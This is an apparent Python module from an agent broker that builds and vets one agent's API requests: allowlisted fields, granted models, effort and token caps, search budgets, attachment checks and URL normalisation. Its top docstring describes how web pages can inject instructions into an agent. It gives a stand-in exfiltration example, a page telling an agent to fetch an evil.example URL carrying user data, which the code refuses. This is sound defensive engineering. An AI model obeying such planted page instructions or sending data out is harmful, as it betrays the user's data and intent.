"""brokerrequest.py — the Messages request the broker makes for one agent's frame, or why not.

An agent's `{"op": "messages", ...}` frame is a wish; this module turns it, with what the agent was
granted (`Grant`), into the request the broker would send, or raises the `Refusal` the agent gets
instead. A request holds only fields from an allowlist and text blocks the agent wrote, names a
model it was granted, asks for no more effort than the grant's (lowered for the model) and at
most `max_tokens_cap`; a web call gets the API's server tools with `max_uses` the agent's
searches left; the agent's granted files go in front of its last user message as the blocks the
API reads them in (at most MAX_IMAGES images). What the model's profile (models.Profile) says it
cannot take is never sent: a PDF or an image to a model without documents or images is refused
with a message that says so (the agent can still read the file in its own code), and cache
hints are left out for a model that takes none. Nothing here sends, bills or reads a socket:
broker.py does, and decides what a request may cost.

What a page can make an agent do. Search results and fetched pages are written by strangers and
the model reads them, so a page can steer what the model answers (an agent's answer from the web
is a claim with sources, never an instruction), what it searches for (a query goes to the API's
search provider and no one else), and which of the URLs already in the conversation it fetches
next: the API fetches no other, so the model cannot compose one. A page cannot send the user's
data to an address of its choosing: a web request whose text holds a URL that did not appear in
the task, its attachments or a search or fetch result seen in this run (`KnownUrls`) is refused,
so an agent's code told by a page to "fetch https://evil.example/?d=<the data>" is refused before
any call. URLs are compared as a URL parser reads them (`_urls`, `_normal`): `https:/evil` and
`https:\\evil` are addresses too, and data glued to a known URL after any character makes it
another URL, refused. A link inside a fetched page becomes known only once a result carries it.
Nor can a page reach the key, the network, the user's files or other agents: its text arrives as
text in a reply, and the agent's walls and the broker's allowlist are what they were.
"""

from __future__ import annotations

import errno
import json
import os
import re
import stat
import threading
from collections.abc import Callable, Collection, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from agentgod import agent_runtime
from agentgod.attachments import file_identity
from agentgod.kinds import EFFORT_LEVELS
from agentgod.models import Profile

MAX_IMAGES = 100
"""The API's limit on images in one request (on 200k-context models; others take more)."""
MESSAGES_FIELDS = frozenset({"op", *agent_runtime.BROKER_OPS["messages"].fields})
"""What a messages frame may hold: agent_runtime.BROKER_OPS says, as for the broker's dispatch."""
REQUEST_FIELDS = frozenset({"model", "max_tokens", "system", "messages", "output_config"})
"""Anything else in a request (tools, temperature, stream, metadata, ...) is refused, not
stripped: an agent that asked for it should learn it cannot have it."""
BLOCK_FIELDS = frozenset({"type", "text", "cache_control"})
_SCHEME = re.compile(r"https?:", re.IGNORECASE)
_WHITESPACE = re.compile(r"\s")
_LINK_NEXT = re.compile(r"\]\(https?:", re.IGNORECASE)
"""A Markdown link's text ending in a URL and its target beginning with one: [url](url)."""
_OPENS = {")": "(", "]": "[", "}": "{", ">": "<"}
_ENDING = re.compile(r"(?P<emphasis>\*\*|\*|__|_)?(?P<close>[)\]}>'\"])?[.,;:!?]?\Z")
"""What prose or Markdown puts right after a URL, taken off its end: one emphasis mark, one
closing bracket or quote (a bracket only when the URL did not open it), one stop. No more: a run
of such characters is the URL's own, and could carry data as well as letters can."""


@dataclass(frozen=True)
class Grant:
    """What one agent may ask for."""

    model: str
    """Used when a request names none."""
    allowed_models: frozenset[str]
    """Models a request may name; always includes `model`."""
    effort: str | None = None
    """The ceiling of output_config.effort (lowered per model); None sends no effort."""
    share_tokens: int | None = None
    """Tokens (all four kinds) this agent's calls may use together; None is no share limit."""
    web_allowed: bool = False
    """Whether the agent may ask for the web (the planner marked it so)."""
    max_searches: int = 0
    """Web searches this agent's calls may make together (MAX_SEARCHES_PER_AGENT); 0: none."""
    files: Mapping[str, Path] = field(default_factory=dict)
    """Attachments by the name the agent uses for them -> where the broker reads them."""
    file_ids: Mapping[Path, tuple[int, int, int]] = field(default_factory=dict)
    """attachments.file_identity of each file as it was vetted, by path: the broker reads a path
    only while it still is that file (attachments.Attached.identities)."""


class Refusal(Exception):
    """The broker will not make this call; `kind` is one of agent_runtime.REFUSAL_TYPES."""

    def __init__(self, kind: str, message: str) -> None:
        super().__init__(message)
        self.kind = kind
        self.message = message


class KnownUrls:
    """The URLs (normalised) a web request may hold: the task's, its attachments', and every
    one a search or fetch result has brought in this run. Shared by a run's channels."""

    def __init__(self, texts: Collection[str] = ()) -> None:
        self._lock = threading.Lock()
        self._known: set[str] = {_normal(url) for url in _urls(" ".join(texts))}

    def learn(self, content: list[Any]) -> None:
        """Every URL a search or fetch result brought is one a later web request may hold."""
        found = [source["url"] for _, source in _results(content)]
        with self._lock:
            self._known.update(_normal(url) for url in found)

    def unknown(self, text: str) -> list[str]:
        """The URLs in `text` that are none of the known ones, in order."""
        with self._lock:
            return [url for url in _urls(text) if _normal(url) not in self._known]


def build(
    frame: dict[str, Any],
    grant: Grant,
    *,
    searches_used: int,
    web: bool,
    known: KnownUrls,
    max_tokens_cap: int,
    max_api_bytes: int,
    effort_for_model: Callable[[str, str], str | None],
    profile: Callable[[str], Profile] | None = None,
) -> tuple[dict[str, Any], int]:
    """The Messages request to send, from what the agent asked and what it was granted,
    and how many bytes the broker added to it (tools, attachments).

    `searches_used` are the agent's web searches so far; `web` whether the run has the web on;
    `effort_for_model(model, level)` lowers an effort to what the model accepts (None: omit);
    `profile(model)` says what else the model takes (None: every Claude feature).
    """
    unknown = sorted(set(frame) - MESSAGES_FIELDS)
    if unknown:
        raise Refusal("invalid", f"unknown frame fields: {listed(unknown)}")
    asked = frame.get("request")
    if not isinstance(asked, dict):
        raise Refusal("invalid", "'request' must be an object")
    unknown = sorted(set(asked) - REQUEST_FIELDS)
    if unknown:
        allowed = ", ".join(sorted(REQUEST_FIELDS))
        raise Refusal("invalid", f"fields not allowed: {listed(unknown)} (allowed: {allowed})")
    model = asked.get("model", grant.model)
    if not isinstance(model, str) or model not in grant.allowed_models:
        allowed = ", ".join(sorted(grant.allowed_models))
        raise Refusal("forbidden", f"model {shown(model)} is not allowed (allowed: {allowed})")
    max_tokens = asked.get("max_tokens")
    if not isinstance(max_tokens, int) or isinstance(max_tokens, bool) or max_tokens < 1:
        raise Refusal("invalid", "'max_tokens' must be a positive integer")
    messages = asked.get("messages")
    if not isinstance(messages, list) or not messages:
        raise Refusal("invalid", "'messages' must be a non-empty list")
    request: dict[str, Any] = {
        "model": model,
        "max_tokens": min(max_tokens, max_tokens_cap),
        "messages": [_message(item) for item in messages],
    }
    if "system" in asked:
        request["system"] = _content(asked["system"], "system")
    level = _effort(grant, model, asked.get("output_config"), effort_for_model)
    if level:
        request["output_config"] = {"effort": level}
    added = 0
    wants_web = frame.get("web", False)
    if not isinstance(wants_web, bool):
        raise Refusal("invalid", "'web' must be true or false")
    names = frame.get("files", [])
    if not isinstance(names, list) or not all(isinstance(n, str) for n in names):
        raise Refusal("invalid", "'files' must be a list of names")
    takes = profile(model) if profile is not None else None
    if wants_web:
        if takes is not None and not takes.web:
            raise Refusal(
                "forbidden",
                f"the model {model} runs no web tools (its profile says so), so this run has no "
                "web",
            )
        request["tools"] = _web_tools(grant, request, searches_used, web, known)
        added += len(json.dumps(request["tools"]))
    if names:
        blocks = _attachments(grant, list(dict.fromkeys(names)), max_api_bytes)
        if takes is not None:
            _readable(takes, names, blocks)
        _attach(request, blocks)
        added += sum(len(json.dumps(block)) for block in blocks)
    if takes is not None and not takes.caching:
        _drop_cache_hints(request)
    return request, added


def _readable(takes: Profile, names: list[str], blocks: list[dict[str, Any]]) -> None:
    """Refuse a file the model cannot read as what it is: a PDF to a model without documents,
    an image to a model without images (its profile says; models.toml can say otherwise)."""
    for name, block in zip(dict.fromkeys(names), blocks, strict=True):
        lacking = {"document": (takes.documents, "PDF documents", "documents")}
        lacking["image"] = (takes.images, "images", "images")
        found = lacking.get(block["type"])
        if found is not None and not found[0]:
            raise Refusal(
                "invalid",
                f"the model {takes.model} reads no {found[1]}, so file {shown(name)} cannot be "
                f"shown to it (read it in the agent's own code instead, or set {found[2]} = "
                "true for the model in models.toml if it does read them)",
            )


def _drop_cache_hints(request: dict[str, Any]) -> None:
    """No cache_control for a model that takes none: a hint, so leaving it out changes nothing
    the agent relies on."""
    for content in [request.get("system"), *(m["content"] for m in request["messages"])]:
        if isinstance(content, list):
            for block in content:
                if isinstance(block, dict):
                    block.pop("cache_control", None)


def _web_tools(
    grant: Grant, request: dict[str, Any], used: int, web: bool, known: KnownUrls
) -> list[dict[str, Any]]:
    """The server tools for a web call, if this agent may make one with this text."""
    if not grant.web_allowed:
        raise Refusal("forbidden", "web search is not allowed for this agent")
    if not web:
        raise Refusal("forbidden", "web search is off in this run")
    left = grant.max_searches - used
    if left <= 0:
        raise Refusal(
            "budget",
            f"this agent's web searches are spent ({used} of {grant.max_searches}, the cap "
            "per agent, MAX_SEARCHES_PER_AGENT); no further web calls",
        )
    texts = [_texts(request.get("system"))] + [_texts(m["content"]) for m in request["messages"]]
    unknown = known.unknown("\n".join(texts))
    if unknown:
        raise Refusal(
            "forbidden",
            f"a web call may hold only URLs from the task, its attachments or search "
            f"results, and {shown(unknown[0])} is none of them",
        )
    return agent_runtime.web_tools(left)


def _attachments(grant: Grant, names: list[str], limit: int) -> list[dict[str, Any]]:
    """The granted files as content blocks, each within the API's limits."""
    blocks = [_attachment(grant, name, limit) for name in names]
    images = sum(1 for block in blocks if block["type"] == "image")
    if images > MAX_IMAGES:
        raise Refusal(
            "too_large", f"{images} images in one request; the API takes at most {MAX_IMAGES}"
        )
    return blocks


def _effort(
    grant: Grant, model: str, asked: Any, effort_for_model: Callable[[str, str], str | None]
) -> str | None:
    """The grant's effort, or less if the agent asked for less, lowered for the model."""
    wanted = grant.effort
    if asked is not None:
        if not isinstance(asked, dict) or set(asked) - {"effort"}:
            raise Refusal("invalid", "'output_config' may hold only 'effort'")
        level = asked.get("effort")
        if level not in EFFORT_LEVELS:
            raise Refusal("invalid", f"effort must be one of {', '.join(EFFORT_LEVELS)}")
        if wanted is not None:
            wanted = min(wanted, level, key=EFFORT_LEVELS.index)
    return effort_for_model(model, wanted) if wanted else None


def checked(grant: Grant) -> Grant:
    """A grant as the broker keeps it: its own model always allowed, its effort a real level."""
    if grant.effort is not None and grant.effort not in EFFORT_LEVELS:
        raise ValueError(f"effort must be one of {', '.join(EFFORT_LEVELS)}, got {grant.effort!r}")
    if not isinstance(grant.max_searches, int) or grant.max_searches < 0:
        raise ValueError(f"max_searches must be a whole number, got {grant.max_searches!r}")
    models = frozenset(grant.allowed_models) | {grant.model}
    return replace(
        grant, allowed_models=models, files=dict(grant.files), file_ids=dict(grant.file_ids)
    )


def listed(names: list[str]) -> str:
    """Names an agent sent, the first ten shown, for an error message."""
    text = ", ".join(shown(name) for name in names[:10])
    return text + (f" and {len(names) - 10} more" if len(names) > 10 else "")


def shown(value: Any) -> str:
    """An agent's value, quoted and short, for an error message."""
    text = repr(value)
    return text if len(text) <= 80 else text[:77] + "..."


def _block(block: Any, where: str) -> dict[str, Any]:
    """A text block, the only kind an agent may write itself."""
    if not isinstance(block, dict) or block.get("type") != "text":
        raise Refusal("invalid", f"{where}: only text blocks are allowed")
    unknown = sorted(set(block) - BLOCK_FIELDS)
    if unknown:
        raise Refusal("invalid", f"{where}: block fields not allowed: {listed(unknown)}")
    if not isinstance(block.get("text"), str):
        raise Refusal("invalid", f"{where}: a text block's 'text' must be a string")
    if "cache_control" in block and block["cache_control"] != {"type": "ephemeral"}:
        raise Refusal("invalid", f"{where}: cache_control may only be {{'type': 'ephemeral'}}")
    return dict(block)


def _content(content: Any, where: str) -> str | list[dict[str, Any]]:
    if isinstance(content, str):
        return content
    if isinstance(content, list) and content:
        return [_block(block, where) for block in content]
    raise Refusal("invalid", f"{where}: content must be a string or a list of text blocks")


def _message(message: Any) -> dict[str, Any]:
    if not isinstance(message, dict) or set(message) != {"role", "content"}:
        raise Refusal("invalid", "each message must be exactly {'role', 'content'}")
    if message["role"] not in ("user", "assistant"):
        raise Refusal("invalid", "a message's role must be 'user' or 'assistant'")
    return {"role": message["role"], "content": _content(message["content"], "messages")}


def _attachment(grant: Grant, name: str, limit: int) -> dict[str, Any]:
    """A granted file as the block the API reads it in: UTF-8 text inlined in a <file> text
    block, a PDF as a base64 document, a PNG, JPEG, GIF or WEBP as a base64 image."""
    path = grant.files.get(name)
    if path is None:
        raise Refusal("forbidden", f"no file named {shown(name)} was given to this agent")
    vetted = grant.file_ids.get(path)
    replaced = Refusal(
        "forbidden",
        f"file {shown(name)} was replaced since it was attached: it is not the file that was "
        "checked, so it is not read",
    )
    try:
        # O_NONBLOCK: a FIFO put where a file was must not hang the channel; fstat refuses it.
        # O_NOFOLLOW: a vetted file swapped for a link is not followed anywhere.
        follow = os.O_NOFOLLOW if vetted is not None else 0
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC | follow)
        try:
            status = os.fstat(fd)
            if vetted is not None and file_identity(status) != tuple(vetted):
                raise replaced
            regular, size, data = stat.S_ISREG(status.st_mode), status.st_size, b""
            if regular and size <= limit:
                with open(fd, "rb", closefd=False) as file:
                    data = file.read(limit + 1)
        finally:
            os.close(fd)
    except OSError as error:
        if vetted is not None and error.errno == errno.ELOOP:  # a link now stands there
            raise replaced from None
        raise Refusal("invalid", f"file {shown(name)} cannot be read: {error.strerror}") from None
    if not regular:
        raise Refusal("invalid", f"file {shown(name)} is not a regular file")
    if size > limit:
        raise Refusal(
            "too_large",
            f"file {shown(name)} is {size} bytes; the API takes at most {limit} in a request",
        )
    try:
        return agent_runtime.file_block(name, data)
    except agent_runtime.FileTooLarge as error:
        raise Refusal("too_large", str(error)) from None
    except ValueError as error:
        raise Refusal("invalid", str(error)) from None


def _attach(request: dict[str, Any], blocks: list[dict[str, Any]]) -> None:
    """Put the attachments in front of the last user message's text."""
    for message in reversed(request["messages"]):
        if message["role"] == "user":
            content = message["content"]
            text = [{"type": "text", "text": content}] if isinstance(content, str) else content
            message["content"] = [*blocks, *text]
            return
    raise Refusal("invalid", "attachments need a user message to go with")


def _results(content: list[Any]) -> list[tuple[str, dict[str, str]]]:
    """Every search result and fetched page in the content, in order, as (the tool's name,
    {title, url})."""
    found: list[tuple[str, dict[str, str]]] = []
    for block in content:
        if not isinstance(block, dict):
            continue
        got = block.get("content")
        if block.get("type") == "web_search_tool_result" and isinstance(got, list):
            for result in got:
                if isinstance(result, dict):
                    found.append(("web_search", _named(result.get("title"), result.get("url"))))
        elif block.get("type") == "web_fetch_tool_result" and isinstance(got, dict):
            document = got.get("content")
            title = document.get("title") if isinstance(document, dict) else None
            found.append(("web_fetch", _named(title, got.get("url"))))
    return [(tool, source) for tool, source in found if source["url"]]


def _named(title: Any, url: Any) -> dict[str, str]:
    url = url if isinstance(url, str) else ""
    return {"title": title if isinstance(title, str) and title else url, "url": url}


def _texts(content: Any) -> str:
    """The text of a system prompt or a message's content (a string or text blocks)."""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return "\n".join(str(b.get("text", "")) for b in content if isinstance(b, dict))
    return ""


def _urls(text: str) -> list[str]:
    """The http(s) URLs in a text, each as far as a URL parser would read it.

    A URL starts at every `http:` or `https:` (any case, with any slashes after it, or none:
    WHATWG parsers read `https:\\\\host` and `https:/host` as `https://host`) and runs to the next
    whitespace, whatever characters it holds: data glued to a URL after a `|`, a `^` or a quote
    is part of what a model could fetch, so it is part of what is compared. Only what prose puts
    after a URL is taken off its end (`_ENDING`), and a Markdown link's `](` ends it when
    another URL follows. A URL found inside another one is the outer one's part, not one of its
    own.
    """
    starts = [found.start() for found in _SCHEME.finditer(text)]
    spans: list[tuple[int, int]] = []
    for start in starts:
        if spans and start < spans[-1][1]:
            continue  # inside the URL before it (https://a.example/?next=https://b.example)
        end = _WHITESPACE.search(text, start)
        stop = end.start() if end else len(text)
        link = _LINK_NEXT.search(text, start, stop)
        spans.append((start, link.start() if link else stop))
    found = []
    for start, stop in spans:
        url = text[start:stop]
        ending = _ENDING.search(url)
        if ending is not None and ending.group():
            kept, close = url[: ending.start()], ending.group("close") or ""
            if close in _OPENS and kept.count(_OPENS[close]) > kept.count(close):
                kept += (ending.group("emphasis") or "") + close  # (Python_(language))
            url = kept
        if _parts(url)[2]:  # "https:" with no host is a word, not a URL anything can fetch
            found.append(url)
    return found


def _normal(url: str) -> str:
    """A URL as a WHATWG parser resolves the parts that matter here: scheme and host lower-case,
    the slashes after the scheme (backslashes too) as `//`, backslashes in the path as `/`, a
    default port dropped, "/" for an empty path, no fragment (never sent). Anything else stays
    as written, so two URLs a parser would tell apart never compare equal."""
    scheme, user, host, path, query = _parts(url)
    return f"{scheme}://{user}{host}{path}{query}"


def _parts(url: str) -> tuple[str, str, str, str, str]:
    """(scheme, userinfo with its "@", host with a port other than the default, path, "?query")
    of an http(s) URL, read as `_normal` says."""
    scheme, _, rest = url.strip().partition(":")
    scheme = scheme.lower()
    rest = rest.lstrip("/\\")
    cut = min((at for at in map(rest.find, "/\\?#") if at >= 0), default=len(rest))
    authority, rest = rest[:cut], rest[cut:].split("#", 1)[0]
    path, mark, query = rest.partition("?")
    user, at, host = authority.rpartition("@")
    host = host.lower()
    default = ":443" if scheme == "https" else ":80"
    if host.endswith(default):
        host = host[: -len(default)]
    return scheme, user + at, host.removesuffix(":"), path.replace("\\", "/") or "/", mark + query
